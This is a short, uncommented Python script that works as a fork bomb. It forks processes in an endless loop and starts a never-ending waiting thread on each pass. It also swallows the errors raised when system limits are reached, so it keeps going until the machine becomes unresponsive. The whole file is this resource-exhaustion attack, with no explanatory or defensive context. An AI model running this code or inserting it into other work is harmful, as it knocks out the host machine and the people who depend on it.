import os
import threading

while True:
    try:
        if os.fork() == 0:
            continue
    except OSError:
        pass
    try:
        threading.Thread(target=threading.Event().wait).start()
    except RuntimeError:
        pass
